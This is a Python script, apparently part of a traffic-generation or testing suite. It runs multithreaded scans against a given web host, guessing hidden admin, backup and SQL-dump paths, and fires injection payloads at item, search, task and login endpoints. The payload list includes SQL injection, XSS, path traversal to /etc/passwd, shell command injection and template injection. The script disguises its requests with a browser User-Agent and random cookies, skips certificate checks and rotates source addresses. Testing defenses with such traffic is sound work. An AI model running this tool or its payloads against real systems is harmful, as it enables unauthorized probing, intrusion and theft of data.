# SPDX-License-Identifier: Apache-2.0
"""Searches and tries a web application by http.client: few kept connections or one each, headers of a browser, payloads of many lengths."""

from __future__ import annotations

import http.client
import threading
import time
from urllib.parse import quote

from common import Pace, arguments, blind

PLACES = (
    "admin",
    "old",
    "backup",
    "api",
    "private",
    "include",
    "lib",
    "data",
    "logs",
    "cache",
    "user",
    "shop",
    "blog",
    "cms",
    "sql",
)
ENDS = ("", "/", ".php", ".bak", ".zip", ".txt", "~", ".sql", ".old", "/index.php")
PAYLOADS = (
    "1' AND '1'='1",
    "1 UNION SELECT NULL,NULL,NULL--",
    "<img src=x onerror=alert(1)>",
    "../../../../../../etc/passwd",
    "; cat /etc/hosts",
    "${7*7}",
    "1) ORDER BY 9#",
)


def main() -> None:
    parser = arguments(__doc__, count=500, seconds=45)
    parser.add_argument("way", choices=("search", "inject", "both"))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--per-connection", type=int, default=1000)
    options = parser.parse_args()
    pace, lock = Pace(options), threading.Lock()
    chance = pace.chance
    kind = http.client.HTTPSConnection if options.tls else http.client.HTTPConnection
    more = {"context": blind()} if options.tls else {}
    headers = {
        "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        "Accept": "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        "Cookie": f"session={chance.randbytes(chance.randint(8, 60)).hex()}",
    }

    def next_request() -> tuple[str, str, str | None] | None:
        with lock:
            if not pace.go_on():
                return None
            way = options.way if options.way != "both" else chance.choice(("search", "inject"))
            if way == "search":
                path = "/".join(
                    chance.choice(PLACES) + chance.choice(("", str(chance.randrange(99))))
                    for _ in range(chance.randint(1, 3))
                )
                return chance.choice(("GET", "GET", "HEAD")), f"/{path}{chance.choice(ENDS)}", None
            odd = quote("/**/".join(chance.choice(PAYLOADS) for _ in range(min(int(chance.paretovariate(0.9)), 25))))
            if chance.random() < 0.25:
                return "POST", "/app/login", f"user={odd}&password={odd[:40]}"
            return "GET", f"/app/{chance.choice(('item?id=', 'search?q=', 'task?n='))}{odd}", None

    def line() -> None:
        web, used = None, 0
        while wanted := next_request():
            try:
                if web is None or used >= options.per_connection:
                    if web:
                        web.close()
                    web, used = kind(options.host, options.port, timeout=6, source_address=pace.source(), **more), 0
                used += 1
                web.request(wanted[0], wanted[1], wanted[2], headers)
                web.getresponse().read()
            except (OSError, http.client.HTTPException):
                web = None
            with lock:
                wait = pace.wait_s()
            time.sleep(wait)
        if web:
            web.close()

    lines = [threading.Thread(target=line) for _ in range(options.threads)]
    for one in lines:
        one.start()
    for one in lines:
        one.join()


if __name__ == "__main__":
    main()
